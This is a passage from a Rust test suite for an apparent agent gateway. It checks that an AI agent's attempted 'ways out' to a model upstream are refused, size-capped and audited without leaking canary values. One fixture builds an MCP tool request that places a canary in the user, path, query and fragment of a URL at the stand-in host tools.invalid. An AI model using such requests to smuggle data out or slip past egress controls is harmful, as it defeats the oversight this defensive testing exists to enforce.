            Ipv4Addr::LOCALHOST,
            0,
        ))))
        .unwrap();
    let mut attacks = Attacks {
        canary: format!("rt{}", uuid::Uuid::new_v4().simple()),
        list: Vec::new(),
    };
    listed(&mut attacks);
    beyond(&mut attacks);
    real_clients(&mut attacks);

    let (project, finished) = ship_and_dispatch(
        &attacks,
        &upstream,
        &format!("allow = [\"{MODEL}\", \"gpt-5-codex\", \"stet-live-model\"]\n"),
    );

    // What the agent read back, one line a request.
    let transcript = finished.transcript();
    let replies: BTreeMap<&str, &str> = transcript
        .iter()
        .filter(|(kind, _)| *kind == ItemKind::Output)
        .filter_map(|(_, text)| text.strip_prefix("RESULT "))
        .filter_map(|line| line.split_once(' '))
        .collect();
    let received = upstream.requests();
    let mut broken = Vec::new();
    let mut refusals_wanted = Vec::new();
    for attack in &attacks.list {
        let mark = attacks.mark(&attack.name);
        let reached: Vec<&ModelRequest> = received
            .iter()
            .filter(|request| seen_text(request).contains(&mark))
            .collect();
        let reply = replies
            .get(attack.name.as_str())
            .copied()
            .unwrap_or("(no line)");
        // Final statuses only: a `100 Continue` is not an answer.
        let statuses = reply
            .split(' ')
            .next()
            .unwrap_or_default()
            .split(',')
            .filter(|status| !status.starts_with('1'))
            .collect::<Vec<_>>()
            .join(",");
        // Shown with --nocapture: what the agent read back for each way out.
        eprintln!(
            "{} -> {}",
            attack.name,
            reply.chars().take(240).collect::<String>()
        );
        match &attack.expect {
            Expect::Reaches(check) => match reached.as_slice() {
                [seen] => {
                    if let Err(why) = check(seen, &mark) {
                        broken.push(format!("{}: {why}", attack.name));
                    }
                }
                _ => broken.push(format!(
                    "{}: reached the upstream {} times; reply {reply}",
                    attack.name,
                    reached.len()
                )),
            },
            _ if !reached.is_empty() => broken.push(format!(
                "{}: REACHED THE UPSTREAM: {}",
                attack.name,
                seen_text(reached[0])
            )),
            Expect::Policy(wanted) => {
                let all_400 = statuses.split(',').count() == wanted.len()
                    && statuses.split(',').all(|status| status == "400");
                if !all_400
                    || !reply.contains(wanted[0].0)
                    || !reply.contains("stet_request_policy")
                {
                    broken.push(format!("{}: the agent read {reply}", attack.name));
                }
                refusals_wanted.extend(wanted.iter().map(|pair| (attack.name.clone(), *pair)));
            }
            Expect::Status(status) => {
                if statuses != status.to_string() {
                    broken.push(format!("{}: the agent read {reply}", attack.name));
                }
            }
            Expect::Nothing(read) => {
                if statuses.split(',').any(|status| status.starts_with('2')) {
                    broken.push(format!("{}: the agent read {reply}", attack.name));
                }
                if let Some(pair) = read.filter(|_| reply.contains("stet_request_policy")) {
                    refusals_wanted.push((attack.name.clone(), pair));
                }
            }
        }
    }
    // Past the cap: refused as it arrives, by its length or its size.
    for name in ["zz-oversize-length", "zz-oversize-chunked"] {
        let reply = replies.get(name).copied().unwrap_or("(no line)");
        if !(reply.starts_with("413 ") || name.ends_with("chunked") && reply.starts_with("none ")) {
            broken.push(format!("{name}: the agent read {reply}"));
        }
    }
    let oversize = format!("{}.zz-oversize.", attacks.canary);
    if received
        .iter()
        .any(|request| seen_text(request).contains(&oversize))
    {
        broken.push("a body past the cap reached the upstream".to_owned());
    }

    // Each policy refusal is one event, in the order sent, naming the field and the rule.
    let events: Vec<(String, String)> = finished
        .events
        .iter()
        .filter_map(|event| match &event.kind {
            EventKind::GatewayRefusal { field, rule, .. } => {
                Some((field.as_str().to_owned(), rule.as_str().to_owned()))
            }
            _ => None,
        })
        .collect();
    if events.len() != refusals_wanted.len() {
        broken.push(format!(
            "{} refusal events for {} refusals: {events:#?}",
            events.len(),
            refusals_wanted.len()
        ));
    }
    for ((field, rule), (name, (wanted_field, wanted_rule))) in events.iter().zip(&refusals_wanted)
    {
        if !field.contains(wanted_field) || rule != wanted_rule {
            broken.push(format!(
                "{name}: event {field} {rule}, wanted {wanted_field} {wanted_rule}"
            ));
        }
    }
    let record = std::fs::read_to_string(events_file(&project.home, finished.dispatch())).unwrap();
    let recorded = record
        .lines()
        .filter(|line| line.contains("\"kind\":\"gateway_refusal\""))
        .count();
    if recorded != refusals_wanted.len() {
        broken.push(format!(
            "the run record holds {recorded} refusals of {}",
            refusals_wanted.len()
        ));
    }
    if record
        .lines()
        .any(|line| line.contains("gateway_refusal") && line.contains(&attacks.canary))
    {
        broken.push("a refusal in the run record repeats a refused value".to_owned());
    }
    assert!(
        broken.is_empty(),
        "{} of {} ways out broke:\n{}",
        broken.len(),
        attacks.list.len() + 2,
        broken.join("\n")
    );
    finished.torn_down_cleanly();
    runtime.block_on(upstream.shutdown());
}

/// A request the enabled remote MCP tool reaches the upstream with, its canary in the server URL's
/// user, path, query and fragment only.
fn reaches_with_its_tool(seen: &ModelRequest, mark: &str) -> Result<(), String> {
    let tools = seen.body.get("tools").and_then(Value::as_array);
    match tools.and_then(|tools| tools.first()) {
        Some(tool)
            if tool["type"] == "mcp"
                && tool["server_url"]
                    .as_str()
                    .is_some_and(|url| url.contains(mark)) =>
        {
            Ok(())
        }
        _ => Err(format!(
            "the enabled tool did not reach the upstream as sent: {}",
            seen.body
        )),
    }
}

/// The user enables remote MCP with its price: the agent's request through the relay reaches the
/// upstream, and the dispatch's events and run record audit it as egress naming the tool and the
/// server's host and port, never the user, path, query or fragment the agent put in the URL.
#[test]
fn an_enabled_provider_tool_is_audited_in_the_run_record_naming_only_its_host() {
    let runtime = serving_runtime();
    let upstream = runtime
        .block_on(ScriptedModel::serve(SocketAddr::from((
            Ipv4Addr::LOCALHOST,
            0,
        ))))
        .unwrap();
    let mut attacks = Attacks {
        canary: format!("rt{}", uuid::Uuid::new_v4().simple()),
        list: Vec::new(),
    };
    attacks.responses(
        "enabled-mcp",
        r#","tools":[{"type":"mcp","server_label":"c","server_url":"https://u{C}@tools.invalid:8443/c{C}?d={C}#{C}","require_approval":"never"}],"max_tool_calls":2"#,
        Expect::Reaches(reaches_with_its_tool),
    );
    let (project, finished) = ship_and_dispatch(
        &attacks,
        &upstream,
        &format!("allow = [\"{MODEL}\"]\nprovider_tools = {{ mcp = 0.05 }}\n"),
    );
    let attack = &attacks.list[0];

    let mark = attacks.mark(&attack.name);
    let received = upstream.requests();
    let reached: Vec<&ModelRequest> = received
        .iter()
        .filter(|request| seen_text(request).contains(&mark))
        .collect();
    assert_eq!(
        reached.len(),
        1,
        "the enabled tool's request reaches the upstream once"
    );
    reaches_with_its_tool(reached[0], &mark).unwrap();

    let audited: Vec<(String, Option<String>)> = finished
        .events
        .iter()
        .filter_map(|event| match &event.kind {
            EventKind::GatewayEgress { tool, host, .. } => Some((
                tool.as_str().to_owned(),
                host.as_ref().map(|host| host.as_str().to_owned()),
            )),
            _ => None,
        })
        .collect();
    assert_eq!(
        audited,
        vec![("mcp".to_owned(), Some("tools.invalid:8443".to_owned()))],
        "one egress event naming the tool and the host"
    );
    let record = std::fs::read_to_string(events_file(&project.home, finished.dispatch())).unwrap();
    let egress: Vec<&str> = record
        .lines()
        .filter(|line| line.contains("\"kind\":\"gateway_egress\""))
        .collect();
    assert_eq!(egress.len(), 1, "{record}");
    assert!(egress[0].contains("tools.invalid:8443"), "{}", egress[0]);
    assert!(
        !egress[0].contains(&attacks.canary),
        "the egress event repeats what the agent put in the URL: {}",
        egress[0]
    );
    finished.torn_down_cleanly();
    runtime.block_on(upstream.shutdown());
}
